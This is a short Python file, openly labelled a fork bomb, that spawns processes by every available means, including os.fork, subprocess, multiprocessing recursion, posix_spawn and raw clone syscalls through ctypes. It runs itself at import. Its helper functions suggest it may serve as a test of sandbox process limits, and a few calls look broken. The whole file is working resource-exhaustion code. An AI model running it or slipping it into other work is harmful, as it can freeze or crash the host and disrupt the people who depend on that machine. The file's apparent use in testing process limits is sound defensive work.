# A fork bomb, by every way that Python has to start a process.
import ctypes
import multiprocessing
import os
import subprocess

libc = ctypes.CDLL(None)


def bomb():
    ways = (
        os.fork,
        lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 60"], {}),
        lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 60"]),
        lambda: subprocess.Popen([os.__file__], close_fds=False),
        lambda: multiprocessing.Process(target=bomb).start(),
        lambda: os.system("sleep 60 &"),
        lambda: os.execv("/bin/sh", ["sh"]),
        lambda: libc.vfork(),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
        lambda: libc.syscall(435, 0, 0),
    )
    started = 0
    for start in ways:
        for _ in range(100):
            try:
                result = start()
            except Exception:
                break
            if isinstance(result, int) and result < 0 or result == 32512:
                break
            started += 1
    return started


bomb()


def composite(x, y, z):
    return [bomb()] * 4


def succeeded():
    return bomb() > 0
